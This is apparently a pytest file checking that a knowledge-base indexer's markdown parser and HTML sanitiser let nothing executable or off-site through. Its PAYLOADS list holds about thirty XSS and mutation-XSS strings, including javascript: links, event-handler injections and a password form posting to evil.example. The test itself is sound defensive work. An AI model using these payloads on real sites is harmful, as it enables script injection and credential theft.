"""Nothing an editor can write runs, loads from elsewhere or leaves the list of allowed HTML."""

import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from indexer.parse import parse
from indexer.sanitise import sanitise
from kb.documents import Kind

SHARED = Path(os.environ.get("LOTSE_SHARED", Path(__file__).parent.parent.parent / "shared"))
HOSTILE = SHARED / "eval" / "hostile"

ELEMENTS = frozenset(
    "a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl"
    " dt em figcaption figure h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q s samp"
    " section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var"
    " wbr".split()
)
ATTRIBUTES = frozenset(
    "id lang dir href title rel aria-label role span open src alt loading width height checked"
    " disabled value start reversed colspan rowspan scope datetime type align class"
    " tabindex".split()
)
HREF = re.compile(r"https?://|mailto:|tel:|#|lotse:link/\d+$")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](vbscript:x)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '<https://x/" onmouseover=alert(1)>',
    "text{: onclick='alert(1)' style='position:fixed' }",
    '# h {onclick=alert(1) #id"onx}',
    "`x`{: href=javascript:alert(1) }",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    ":::note <script>alert(1)</script>\nx\n:::",
    "*[x]: <script>\n\nx",
    "[^1]\n\n[^1]: <iframe src=//evil.example></iframe>",
    "|<script>|\n|--|\n|<b onclick=x()>y</b>|",
    "<form action=//evil.example><input name=password type=password><button>x</button></form>",
    "<a href='lotse:link/5'>x</a><img src='lotse:image/5'>",
    "<p id='x' class='fixed overlay' style='background:url(//evil.example)'>x</p>",
    "<object data=x><embed src=x></object><template><img src=x></template>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh>",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03",
    "<xmp><p></xmp><script>alert(1)</script></p>",
    "<select><style></select><script>alert(1)</script>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
]


def faults(html: str) -> Iterator[str]:
    """Everything in the page that is not on the test's own list."""
    root = LexborHTMLParser(f"<body>{html}</body>").body
    assert root is not None
    for node in root.traverse(skip_empty=True):
        if node.tag in ("body", "-text"):
            continue
        if node.tag not in ELEMENTS:
            yield f"<{node.tag}>"
        for name, value in node.attrs.items():
            value = value or ""
            if name not in ATTRIBUTES:
                yield f"{node.tag} {name}={value}"
            if name == "href" and not HREF.match(value):
                yield f"href={value}"
            if name == "src" and not re.fullmatch(r"lotse:image/\d+", value):
                yield f"src={value}"
            if name == "type" and (node.tag, value) not in (("input", "checkbox"), ("ol", "a")):
                yield f"{node.tag} type={value}"
            if name == "tabindex" and (node.tag, value) != ("table", "0"):
                yield f"{node.tag} tabindex={value}"


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "- {}", "> {}", "<div>{}</div>", "a *{}* b"])
def test_hostile_markdown_yields_nothing_that_runs(payload: str, frame: str) -> None:
    page = parse(f"# T\n\n{frame.format(payload)}\n".encode(), "en", Kind.ARTICLE)
    assert list(faults(page.html)) == []
    assert sanitise(page.html) == page.html


def test_links_that_leave_the_site_say_so_and_others_do_not() -> None:
    text = b"# T\n\n[a](https://example.com) [b](other.md) [c](mailto:a@example.com)\n"
    html = parse(text, "en", Kind.ARTICLE).html
    assert html.count('rel="noopener noreferrer external"') == 1


def test_forged_stand_ins_lead_nowhere() -> None:
    text = b'# T\n\n<a href="lotse:link/0">x</a> [y](real.md) <img src="lotse:image/0">\n'
    page = parse(text, "en", Kind.ARTICLE)
    assert [target.address for target in page.links] == ["real.md"]
    assert page.images == ()


def test_editors_comments_reach_neither_page_nor_source() -> None:
    text = (
        "# T\n\n<!-- internal\nnote -->\nText <!-- more --> `<!-- code -->`\n\n"
        "```\n<!-- x -->\n```\n"
    )
    page = parse(text.encode(), "en", Kind.ARTICLE)
    assert "internal" not in page.html + page.markdown + str(page.sections)
    assert "more" not in page.html + page.markdown
    assert page.markdown.count("<!--") == 2


def shared_files(name: str) -> list[Path]:
    return sorted((HOSTILE / name).glob("*.md"))


@pytest.mark.skipif(not HOSTILE.is_dir(), reason=f"no hostile examples in {HOSTILE}")
@pytest.mark.parametrize("name", ["xss", "commonmark", "broken", "filenames"])
def test_shared_hostile_files_yield_nothing_that_runs(name: str) -> None:
    for path in shared_files(name):
        page = parse(path.read_bytes(), "en", Kind.ARTICLE)
        assert list(faults(page.html)) == [], path.name
